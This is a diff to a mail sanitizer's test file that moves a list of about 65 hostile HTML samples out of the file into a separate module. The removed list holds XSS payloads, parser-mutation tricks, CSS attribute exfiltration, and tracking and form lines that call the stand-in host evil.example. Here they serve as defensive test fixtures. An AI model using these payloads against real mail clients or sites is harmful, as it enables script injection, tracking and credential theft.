@@ -4,6 +4,7 @@ import { html } from '../../nodes/shared/html/html';
 import { mailBody } from '../../nodes/SharedInbox/page/mail-body';
 import { dataPicture, harmlessHtml } from '../../nodes/shared/html/harmless-html';
 import { parseMail } from '../../nodes/shared/mail/message/parse';
+import { HOSTILE } from './hostile-mails';
 import { htmlMail, plainMail } from './test-inbox';
 
 const ALLOWED_PICTURE = /^data:image\/(png|jpe?g|gif|webp|bmp);base64,/i;
@@ -34,75 +35,6 @@ function dangersIn(text: string): string[] {
 	walk(parseDocument(text).children);
 	return found;
 }
-
-const HOSTILE: [string, string][] = [
-	['a script', '<p>Hi</p><script>alert(1)</script>'],
-	['a script in capitals with a break', '<SCRIPT\n>alert(1)</SCRIPT\n>'],
-	['a script without an end', 'Hi <script>alert(1)'],
-	['a split script', '<scr<script></script>ipt>alert(1)</scr<script></script>ipt>'],
-	['a script from elsewhere', '<script src=//evil.example/x.js></script>'],
-	['a picture that fails', '<img src=x onerror=alert(1)>'],
-	['a picture that loads', '<img src="data:image/png;base64,AAAA" onload="alert(1)">'],
-	['slashes for blanks', '<img/src=x/onerror=alert(1)>'],
-	['a quote in an attribute', '<img src=\'x" onerror="alert(1)\'>'],
-	['a backtick', '<img src=`javascript:alert(1)`>'],
-	['an event on a paragraph', '<p onclick="alert(1)" onmouseover=alert(1)>x</p>'],
-	['an unknown event', '<p onanimationstart=alert(1) style="animation:x 1s">x</p>'],
-	['a body event', '<body onload=alert(1)>x'],
-	['an svg script', '<svg><script>alert(1)</script></svg>'],
-	['an svg event', '<svg onload=alert(1)><circle r=9></svg>'],
-	['an svg animation', '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>'],
-	['an svg foreign object', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
-	['mathml', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
-	['a mutation through math', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">'],
-	['a mutation through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
-	['a mutation through a form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
-	['a title that ends', '<title></title><img src=x onerror=alert(1)></title>'],
-	['a textarea that ends', '<textarea></textarea><script>alert(1)</script>'],
-	['a template', '<template><script>alert(1)</script></template>'],
-	['a comment that ends', '<!--><img src=x onerror=alert(1)>-->'],
-	['a conditional comment', '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->'],
-	['cdata', '<![CDATA[<script>alert(1)</script>]]>'],
-	['an xml processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?>'],
-	['a javascript link', '<a href="javascript:alert(1)">x</a>'],
-	['a javascript link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
-	['a javascript link with a null', '<a href="java\u0000script:alert(1)">x</a>'],
-	['a javascript link in entities', '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>'],
-	['a javascript link behind a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
-	['a vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
-	['a data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
-	['a data link in capitals', '<a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>'],
-	['a file link', '<a href="file:///etc/passwd">x</a>'],
-	['a link that pings', '<a href="https://a.example" ping="https://evil.example">x</a>'],
-	['a link into the same window', '<a href="https://a.example" target="_top" rel="opener">x</a>'],
-	['a relative link into our page', '<a href="?action=sign-out">x</a>'],
-	['a link without a scheme', '<a href="//evil.example">x</a>'],
-	['an svg picture', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
-	['a html picture', '<img src="data:text/html,<script>alert(1)</script>">'],
-	['a remote picture', '<img src="https://evil.example/open.gif?who=ana">'],
-	['a remote picture without a scheme', '<img src="//evil.example/open.gif">'],
-	['a picture set', '<img srcset="https://evil.example/1.gif 1x"><picture><source srcset="https://evil.example/2.gif"></picture>'],
-	['a background', '<table background="https://evil.example/b.gif"><tr><td background="https://evil.example/c.gif">x</td></tr></table>'],
-	['a style sheet', '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y.gif)}</style>'],
-	['a style element in a style attribute', '<p style="background:url(https://evil.example/z.gif)">x</p>'],
-	['an escaped url', '<p style="background:\\75rl(https://evil.example/z.gif)">x</p>'],
-	['a commented url', '<p style="background:u/**/rl(https://evil.example/z.gif)">x</p>'],
-	['an image-set', '<p style="background-image:image-set(\'https://evil.example/z.gif\' 1x)">x</p>'],
-	['an attribute reader', '<style>input[value^=a]{background:url(https://evil.example/a)}</style><input value=abc>'],
-	['an expression', '<p style="width:expression(alert(1))">x</p>'],
-	['a binding', '<p style="-moz-binding:url(https://evil.example/x.xml#y);behavior:url(x.htc)">x</p>'],
-	['a cover over everything', '<div style="position:fixed;inset:0;z-index:9999;background-color:#fff">Session ended: sign in</div>'],
-	['a linked style sheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
-	['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
-	['a base', '<base href="https://evil.example/"><a href="/x">x</a>'],
-	['a form', '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>'],
-	['a frame', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
-	['an object', '<object data="https://evil.example/x.swf"><embed src="x.swf"></object>'],
-	['a video', '<video poster="https://evil.example/p.gif"><source src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>'],
-	['a name that shadows', '<img name=cookie id=location><a id=document class=top>x</a>'],
-	['UTF-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
-	['an end of our page', '</div></body></html><script>alert(1)</script>'],
-];
 
 describe('a mail in HTML', () => {
 	it.each(HOSTILE)('with %s is made harmless', (_, hostile) => {
